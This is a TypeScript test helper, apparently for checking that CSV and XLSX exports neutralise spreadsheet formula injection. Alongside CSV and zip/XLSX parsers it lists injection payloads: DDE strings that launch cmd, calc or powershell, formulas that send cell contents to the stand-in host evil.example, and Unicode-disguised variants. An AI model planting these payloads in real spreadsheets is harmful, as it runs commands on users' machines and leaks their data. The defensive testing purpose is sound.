import { inflateRawSync } from 'node:zlib'

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠']

/** Texts that a spreadsheet program could take for a formula, a command or a link to elsewhere. */
export const FORMULAS: readonly string[] = [
  ...STARTS.map((start) => `${start}1+1`),
  ...STARTS.map((start) => `${start}cmd|' /C calc'!A0`),
  '=HYPERLINK("https://evil.example?x="&A1;"Se her")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("https://evil.example?v=";A1);"//a")',
  '=DDE("cmd";"/C calc";"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+SUM(A1:A9)',
  "-2+3+cmd|' /C calc'!A0",
  '=1+1";=1+1',
  '=1;=2;"=3"',
  '"=1+1"'.slice(1),
  ' =1+1',
  '  \t=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\r\n=1+1',
  "=cmd|'/C powershell'!A0\r\n=1",
  '%0A=1+1',
  '|calc',
  '−1+1',
  '﹦1+1',
  '=\u0000cmd',
]

/** The rows of a CSV as a program reads it whose separator is the semicolon. */
export function rowsOfCsv(csv: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  const text = csv.replace(/^\ufeff/, '')
  let at = 0
  while (at < text.length) {
    const quoted = /^"((?:[^"]|"")*)"/.exec(text.slice(at))
    const cell = quoted ? quoted[0] : (/^[^;\r\n]*/.exec(text.slice(at))?.[0] ?? '')
    row.push(quoted ? (quoted[1] ?? '').replaceAll('""', '"') : cell)
    at += cell.length
    if (text[at] === ';') at++
    else if (text.startsWith('\r\n', at)) {
      rows.push(row)
      row = []
      at += 2
    } else throw new Error(`Neither a separator nor an end at ${at}: ${JSON.stringify(text.slice(at, at + 20))}`)
  }
  return rows
}

const plain = (xml: string) =>
  xml
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&amp;', '&')

/** The files of a zip archive, by its directory. */
function unzipped(bytes: Uint8Array): [name: string, text: string][] {
  const zip = Buffer.from(bytes)
  const end = zip.lastIndexOf('PK\u0005\u0006', undefined, 'latin1')
  const files: [string, string][] = []
  let at = zip.readUInt32LE(end + 16)
  for (let left = zip.readUInt16LE(end + 10); left > 0; left--) {
    const [method, size] = [zip.readUInt16LE(at + 10), zip.readUInt32LE(at + 20)]
    const [name, extra, comment] = [28, 30, 32].map((place) => zip.readUInt16LE(at + place)) as [number, number, number]
    const local = zip.readUInt32LE(at + 42)
    const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28)
    const content = zip.subarray(start, start + size)
    files.push([
      zip.toString('utf8', at + 46, at + 46 + name),
      (method === 0 ? content : inflateRawSync(content)).toString(),
    ])
    at += 46 + name + extra + comment
  }
  return files
}

/** What is in the one sheet of a workbook: its text cells and its numbers in their order, and everything in it as XML. */
export function sheetOfXlsx(bytes: Uint8Array): { xml: string; texts: string[]; numbers: string[] } {
  const files = unzipped(bytes)
  const sheet = files.find(([name]) => /sheet1\.xml$/.test(name))?.[1] ?? ''
  const shared = files.find(([name]) => /sharedStrings\.xml$/.test(name))?.[1] ?? ''
  const strings = [...shared.matchAll(/<si>(.*?)<\/si>/gs)].map(([, one = '']) =>
    plain([...one.matchAll(/<t[^>]*>(.*?)<\/t>/gs)].map(([, text]) => text).join('')),
  )
  const texts: string[] = []
  const numbers: string[] = []
  for (const [, attributes = '', content = ''] of sheet.matchAll(/<c ([^>]*?)>(.*?)<\/c>/gs)) {
    const value = /<v>(.*?)<\/v>/s.exec(content)?.[1] ?? ''
    const inline = /<t[^>]*>(.*?)<\/t>/s.exec(content)?.[1]
    if (/t="s"/.test(attributes)) texts.push(strings[Number(value)] ?? '')
    else if (/t="(?:inlineStr|str)"/.test(attributes)) texts.push(plain(inline ?? value))
    else if (value) numbers.push(value)
  }
  return { xml: files.map(([, one]) => one).join('\n'), texts, numbers }
}
